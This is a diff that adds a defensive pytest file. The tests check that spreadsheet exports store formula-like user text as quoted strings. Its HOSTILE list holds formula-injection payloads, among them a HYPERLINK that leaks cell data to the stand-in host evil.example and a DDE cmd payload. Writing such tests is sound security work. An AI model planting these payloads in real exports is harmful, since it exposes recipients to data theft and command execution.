@@ -1,0 +1,64 @@
+"""Text that starts like a formula stays text in every Excel export (session 11's attacker review).
+
+Names in the exports come from people: a unit registers its own name, staff name indicators and regions, an
+import brings names from a file. A cell that starts with "=", "+", "-" or "@" runs as a formula in a
+spreadsheet (=HYPERLINK to a hostile site, =WEBSERVICE sending the sheet out) either when the file is opened
+(openpyxl writes a str starting with "=" as a formula) or when the reader edits the cell and presses Enter.
+The indicators' multi-sheet exports wrote "=…" as formulas; the others kept "=" as text but left "+", "-"
+and "@" without Excel's quote prefix. Every writer now goes through core.excel.guard_text."""
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from kechuang.core.excel import xlsx_bytes
+from kechuang.core.exports import col, write_workbook
+from kechuang.indicators import exports as indicator_exports
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+]
+
+
+def _sheets(data: bytes):
+    return load_workbook(io.BytesIO(data)).worksheets
+
+
+def _check(ws, values):
+    found = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for value in values:
+        cell = found[value]  # read back as written
+        assert cell.data_type == "s", (value, cell.data_type)
+        assert cell.quotePrefix, value
+
+
+def test_the_simple_writer_keeps_formula_like_text_as_quoted_text():
+    data = xlsx_bytes(["名称", *HOSTILE[:1]], [[v, 1] for v in HOSTILE])
+    _check(_sheets(data)[0], HOSTILE)
+
+
+def test_the_list_export_keeps_formula_like_text_as_quoted_text():
+    out = io.BytesIO()
+    write_workbook(out, [col("名称", lambda v: v), col("数", lambda v: 1)], HOSTILE, sheet_title="测试")
+    _check(_sheets(out.getvalue())[0], HOSTILE)
+
+
+def test_the_indicators_workbooks_keep_formula_like_text_as_quoted_text():
+    response = indicator_exports._workbook_response(
+        "x.xlsx", [("排名", ["地区", HOSTILE[3]], [[v, 1.5] for v in HOSTILE])]
+    )
+    ws = _sheets(response.content)[0]
+    _check(ws, HOSTILE)
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
+
+
+@pytest.mark.parametrize("text", ["山西大学", "-", "1-2", "a=b", "2026-01-01"])
+def test_ordinary_text_is_left_alone(text):
+    ws = _sheets(xlsx_bytes(["名称"], [[text]]))[0]
+    assert ws["A2"].value == text and ws["A2"].data_type == "s"
+    assert ws["A2"].quotePrefix == text.startswith("-")
